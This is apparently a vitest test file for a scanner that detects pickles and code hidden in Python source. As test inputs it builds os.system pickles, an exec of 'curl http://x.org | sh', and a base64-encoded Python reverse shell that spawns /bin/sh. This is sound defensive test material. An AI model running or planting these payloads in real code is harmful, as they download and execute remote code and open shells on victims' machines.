import { beforeAll, describe, expect, it } from 'vitest';
import { verdictOf } from '../../../src/core/finding.js';
import { EMBEDDED_MODEL } from '../../../src/detectors/python/embedded-model.js';
import { pickle } from '../../../src/formats/pickle/builder.js';
import { initPython } from '../../../src/formats/python/runtime.js';
import { scanSource, summary } from '../../formats/python/helpers.js';

/** `b'\x80\x02…'`: every byte escaped, as a Python bytes literal. */
const pyBytes = (b: Buffer): string => `b'${[...b].map((x) => `\\x${x.toString(16).padStart(2, '0')}`).join('')}'`;
const osSystem = (cmd = 'echo x'): Buffer => pickle().proto(2).global('os', 'system').binunicode(cmd).tuple1().reduce().stop().bytes();
const plain = (): Buffer => pickle().proto(2).emptyList().binunicode('weights of layer one').append().stop().bytes();
/** Protocol-0 pickles, all printable text: `[1, 2]` and `os.system('id')`. */
const textList = pickle().mark().list().put(0).int(1).append().int(2).append().stop().bytes().toString('latin1');
const textOsSystem = pickle().global('os', 'system').mark().string('id').tuple().reduce().stop().bytes().toString('latin1');

describe(EMBEDDED_MODEL.id, () => {
  beforeAll(initPython);

  describe('valid: nothing embedded', () => {
    it.each([
      ['a base64 PNG', `LOGO = '${Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(40, 7)]).toString('base64')}'\n`],
      ['text that starts like a GGUF magic', "MSG = 'GGUF model files are read with gguf-py, not torch'\n"],
      ['prose ending with a full stop', "HELP = '(see the docs for details).'\n"],
      ['a hex digest', "SHA = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n"],
      ['a text-only pickle that imports nothing', `DATA = ${JSON.stringify(textList)}\n`],
      ['an f-string that starts like a GGUF magic', 'raise ValueError(f"GGUF model with architecture {arch} is not supported yet.")\n'],
      ['a sentence that starts like a GGUF magic and ends with a full stop', "MSG = 'GGUF files are read by llama.cpp and gguf-py.'\n"],
    ])('%s', (_name, code) => {
      expect(scanSource(code).findings).toEqual([]);
    });
  });

  describe('invalid: embedded pickles are scanned', () => {
    it('a bytes literal holding a pickle', () => {
      const code = `import pickle\nPAYLOAD = ${pyBytes(osSystem())}\n`;
      const { findings } = scanSource(code);
      const offset = Buffer.from(code).indexOf("b'");
      expect(summary(findings)).toEqual([`pickle/dangerous-callable critical script.py!/<embedded@${offset}>`, `python/embedded-model info script.py`]);
      expect(findings[1]?.location?.offset).toBe(offset);
    });

    it('base64 of a pickle handed to pickle.loads is scanned once', () => {
      const code = `import base64, pickle\nobj = pickle.loads(base64.b64decode('${osSystem().toString('base64')}'))\n`;
      const { findings } = scanSource(code);
      expect(summary(findings).filter((s) => s.startsWith('pickle/'))).toEqual([
        `pickle/dangerous-callable critical script.py!/<embedded@${Buffer.from(code).indexOf('base64.b64decode(')}>`,
      ]);
      expect(findings.some((f) => f.ruleId === EMBEDDED_MODEL.id && f.message.includes('data handed to pickle.loads'))).toBe(true);
    });

    it('hex of a pickle in a str literal', () => {
      const { findings } = scanSource(`DATA = "${osSystem('id').toString('hex')}"\n`);
      expect(findings.map((f) => f.ruleId)).toContain('pickle/dangerous-callable');
    });

    it('a protocol 0 pickle written as text', () => {
      const { findings } = scanSource(`P = ${JSON.stringify(textOsSystem)}\n`);
      expect(findings.map((f) => `${f.ruleId} ${f.severity}`)).toEqual(['pickle/dangerous-callable critical', 'python/embedded-model info']);
    });

    it('a benign embedded pickle is reported as info only', () => {
      const { findings } = scanSource(`P = ${pyBytes(plain())}\n`);
      expect(summary(findings)).toEqual(['python/embedded-model info script.py']);
    });

    it('a broken model literal the code does not load keeps the file clean', () => {
      const { findings } = scanSource(`BAD = ${pyBytes(Buffer.from("\x93NUMPY\x01\x006\x00{'descr': 'x', 'shape': (1, 2), }      \n", 'latin1'))}\n`);
      expect(verdictOf(findings)).toBe('clean');
      expect(findings.every((f) => !f.fatal)).toBe(true);
    });

    it('broken bytes handed to pickle.loads stay an error', () => {
      const broken = osSystem().subarray(0, 20);
      const { findings } = scanSource(`import pickle\npickle.loads(${pyBytes(broken)})\n`);
      expect(findings.some((f) => f.fatal)).toBe(true);
    });

    it('code handed to exec is scanned as Python under <code@offset>', () => {
      const code = `exec("import os; os.system('curl http://x.org | sh')")\n`;
      const { findings } = scanSource(code);
      expect(summary(findings)).toEqual(['python/dynamic-exec low script.py', 'python/download-to-shell critical script.py!/<code@5>']);
    });

    it('decoded code handed to exec is scanned too', () => {
      const payload = Buffer.from("import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n").toString(
        'base64',
      );
      const { findings } = scanSource(`import base64\nexec(base64.b64decode('${payload}'))\n`);
      expect(summary(findings)).toEqual(['python/dynamic-exec critical script.py', 'python/reverse-shell critical script.py!/<code@19>']);
    });
  });
});
